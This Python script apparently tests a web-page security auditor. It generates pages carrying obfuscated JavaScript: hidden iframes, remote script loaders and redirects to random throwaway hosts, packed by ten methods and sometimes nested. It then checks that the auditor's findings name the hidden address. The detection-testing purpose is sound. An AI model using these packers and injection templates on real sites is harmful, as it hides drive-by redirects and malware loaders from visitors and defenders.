#!/usr/bin/env python3
"""Packed scripts decoded to their addresses.   usage: packed.py BIN [SHARED_DIR] [--seeds N]

Two parts. Scripts packed here, in every way and one way inside another, where the truth is known exactly: the evidence of a proved or
strong finding must begin with the very bytes that were packed. And the scripts of SHARED_DIR/cases: each is decoded by the small
reference decoder below, which shares nothing with the program, and an address that the packing hides must be what the finding names;
a packed script of an honest page must have no finding. Without SHARED_DIR the first part alone is done."""
import base64
import json
import os
import random
import re
import subprocess
import sys
import tempfile
import urllib.parse

ARGS = [a for a in sys.argv[1:] if not a.startswith("--")]
BIN, SHARED = os.path.abspath(ARGS[0]), ARGS[1] if len(ARGS) > 1 and not ARGS[1].isdigit() else None
SEEDS = int(sys.argv[sys.argv.index("--seeds") + 1]) if "--seeds" in sys.argv else 6
DIGITS = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


def base(n, b):
    return (base(n // b, b) if n >= b else "") + DIGITS[n % b]


# The ways of packing code: each gives a script that does what `code` does.
def by_charcode(code, r):
    return "eval(String.fromCharCode(%s))" % ",".join(str(ord(c)) if r.random() < 0.7 else hex(ord(c)) for c in code)


def by_escape(code, r):
    return "eval(unescape(%s))" % ("'" + "".join("%%%02x" % ord(c) if r.random() < 0.8 or c in "%'\\" else c for c in code) + "'")


def by_u_escape(code, r):
    return "eval(unescape('%s'))" % "".join("%%u%04x" % ord(c) for c in code)


def by_uri(code, r):
    return 'eval(decodeURIComponent("%s"))' % "".join("%%%02X" % ord(c) for c in code)


def by_base64(code, r):
    return "eval(%satob('%s'))" % (r.choice(["", "window."]), base64.b64encode(code.encode()).decode())


def by_hex(code, r):
    return "eval('%s')" % "".join("\\x%02x" % ord(c) for c in code)


def by_unicode(code, r):
    return 'eval("%s")' % "".join("\\u%04x" % ord(c) for c in code)


def by_reverse(code, r):
    back = code[::-1].replace("\\", "\\\\").replace("'", "\\'")
    return "eval('%s'.split('').reverse().join(''))" % back


def by_sum(code, r):
    parts, i = [], 0
    while i < len(code):
        n = r.randint(2, 5)  # no piece holds a whole host
        parts.append(code[i:i + n].replace("\\", "\\\\").replace("'", "\\'"))
        i += n
    return "eval('%s')" % "'+'".join(parts)


def by_packer(code, r):
    radix = r.choice([36, 62])
    words = []
    for w in re.findall(r"[A-Za-z0-9_]+", code):
        if w not in words:
            words.append(w)
    r.shuffle(words)
    body = re.sub(r"[A-Za-z0-9_]+", lambda m: base(words.index(m[0]), radix), code).replace("\\", "\\\\").replace("'", "\\'")
    how = "e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};"
    return ("eval(function(p,a,c,k,e,d){%swhile(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('%s',%d,%d,'%s'"
            ".split('|'),0,{}))" % (how, body, radix, len(words), "|".join(words)))


PACKERS = [by_charcode, by_escape, by_u_escape, by_uri, by_base64, by_hex, by_unicode, by_reverse, by_sum, by_packer]


# What the code does, and how the evidence of the finding begins.
def frame(host, r):
    tag = '<iframe src="http://%s/%s" width="0" height="0"></iframe>' % (host, r.choice(["", "a.htm", "?k=1"]))
    return "document.write('%s')" % tag, tag


def loader(host, r):
    tag = "<script src='https://%s/%s.js'></script>" % (host, r.choice("xyz"))
    return 'document.write("%s")' % tag, tag


def away(host, r):
    url = "https://%s/%s" % (host, r.choice(["", "in", "reg?id=7"]))
    return r.choice(['window.location.href="%s"', 'top.location.replace("%s")', 'location="%s"']) % url, url


def array_of(host, r):
    """Not code that is evaluated, but strings in a table, as obfuscators write it: already packed."""
    url = "https://%s/c.js" % host
    words = ["script", "createElement", "src", url, "appendChild", "body"]
    order = list(range(len(words)))
    r.shuffle(order)
    at = [order.index(i) for i in range(len(words))]
    table = ",".join('"%s"' % "".join("\\x%02x" % ord(c) for c in words[i]) for i in order)
    code = "var _0x=[%s];var e=document[_0x[%d]](_0x[%d]);e[_0x[%d]]=_0x[%d];document[_0x[%d]][_0x[%d]](e);" % (
        table, at[1], at[0], at[2], at[3], at[5], at[4])
    return code, url


def page(script):
    return ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>渔港疏浚</title></head><body><h1>渔港疏浚</h1>"
            "<p>渔港疏浚工程日前完工，航道水深由三米增加到五米，二百吨级渔船可以全天进出港口。</p><script>%s</script></body></html>" % script.replace("</script", "<\\/script"))


def host_of(r):
    return "".join(r.choice("abcdefghkmnpqrstwxyz0123456789") for _ in range(r.randint(5, 9))) + r.choice([".top", ".vip", ".cc", ".xyz"])


def made():
    """(kind, page, how the evidence begins)."""
    for seed in range(SEEDS):
        r = random.Random(seed)
        for pack in PACKERS:
            code, truth = r.choice([frame, loader, away])(host_of(r), r)
            yield pack.__name__[3:], page(pack(code, r)), truth
        code, truth = array_of(host_of(r), r)
        yield "strings in a table", page(code), truth
        for depth in (2, 3):
            code, truth = r.choice([frame, loader, away])(host_of(r), r)
            for pack in r.sample(PACKERS, depth):  # turned round twice it would be plain
                code = pack(code, r)
            yield "nested %d" % depth, page(code), truth


def audit(paths):
    run = subprocess.run([BIN, "audit", "--suspicions", "--format", "jsonl", *paths], stdout=subprocess.PIPE, check=False)
    return {a["input"]: a for a in map(json.loads, run.stdout.decode("utf-8").splitlines())}


def sure(a):
    return [f for f in a["findings"] if f["verdict"] != "suspicion" and f["kind"] in ("script-packed", "script-redirect", "iframe-overlay")]


# The reference decoder: all constant strings of a script, as a person would resolve them by hand.
def resolve(s):
    s = re.sub(r"\\x([0-9A-Fa-f]{2})|\\u([0-9A-Fa-f]{4})", lambda m: chr(int(m[1] or m[2], 16)), s)
    return re.sub(r"\\(.)", r"\1", s)


def decode(code, depth=4):
    out = []
    strings = [resolve(m[2]) for m in re.finditer(r"(['\"])((?:\\.|(?!\1).)*)\1", code, re.S)]
    for m in re.finditer(r"fromCharCode\(([\d,\sxa-fA-F]+)\)", code):
        strings.append("".join(chr(int(x, 0)) for x in m[1].split(",") if x.strip()))
    for m in re.finditer(r"unescape\(\s*(['\"])(.*?)\1", code):
        strings.append(re.sub(r"%u([0-9A-Fa-f]{4})", lambda k: chr(int(k[1], 16)), urllib.parse.unquote(m[2], "latin-1")))
    for m in re.finditer(r"atob\(\s*(['\"])([A-Za-z0-9+/=]+)\1", code):
        strings.append(base64.b64decode(m[2] + "==").decode("latin-1"))
    for s in strings:
        out.append(s)
        if depth and s != code and re.search(r"eval|fromCharCode|unescape|atob", s):
            out += decode(s, depth - 1)
    return out


def of_cases():
    folder = os.path.join(SHARED, "cases")
    with open(os.path.join(folder, "cases.tsv"), encoding="utf-8") as f:
        labels = {row[0]: row[1] for row in (line.rstrip("\n").split("\t") for line in f)}
    wrong = 0
    for name in sorted(labels):
        path = os.path.join(folder, name)
        if not os.path.exists(path):
            continue
        with open(path, encoding="utf-8", errors="replace") as f:
            text = f.read()
        codes = [text] if name.endswith(".js") else re.findall(r"(?is)<script[^>]*>(.*?)</script>", text)
        ways = [w for w, mark in (("hex", r"\\x[0-9A-Fa-f]{2}"), ("unicode", r"\\u00[0-9A-Fa-f]{2}"), ("char codes", r"fromCharCode\("),
                                  ("unescape", r"unescape\("), ("base64", r"atob\("), ("p.a.c.k.e.r", r"eval\(function\(p,a,c,k,e"),
                                  ("table of strings", r"\[\s*['\"]\\x")) if any(re.search(mark, c) for c in codes)]
        if not ways:
            continue
        hidden = []
        for c in codes:
            for s in decode(c):
                hidden += [u for u in re.findall(r"(?:https?:)?//[A-Za-z0-9.:-]+[A-Za-z0-9/._?=&-]*", s) if u not in c and u not in hidden]
        found = sure(audit([path])[path])
        evidence = [f["evidence"] for f in found]
        if labels[name] == "neg":
            ok = not found
        else:
            ok = any(u in e for u in hidden for e in evidence)
        wrong += not ok
        print("%s %s: %s; decoded by reference: %s; in the evidence: %s" % (
            "ok    " if ok else "WRONG ", name, ", ".join(ways), ", ".join(hidden) or "no address",
            ", ".join(u for u in hidden if any(u in e for e in evidence)) or ("no finding" if not found else "none")))
    return wrong


def main():
    wrong, count, by = 0, 0, {}
    with tempfile.TemporaryDirectory() as d:
        want = {}
        for kind, text, truth in made():
            path = os.path.join(d, "%04d.html" % count)
            count += 1
            with open(path, "w", encoding="utf-8") as f:
                f.write(text)
            want[path] = kind, truth
        got = audit([d])
        for path, (kind, truth) in sorted(want.items()):
            ok = any(f["evidence"].startswith(truth + " [") for f in sure(got[path]))
            b = by.setdefault(kind, [0, 0])
            b[0] += ok
            b[1] += 1
            if not ok:
                wrong += 1
                if wrong <= 10:
                    print("WRONG ", kind, "want", truth, "got", [(f["verdict"], f["evidence"]) for f in got[path]["findings"]])
    for kind in by:
        print("%-20s decoded to the very bytes %d of %d" % (kind, *by[kind]))
    if SHARED and os.path.isdir(os.path.join(SHARED, "cases")):
        wrong += of_cases()
    sys.exit(wrong > 0)


main()
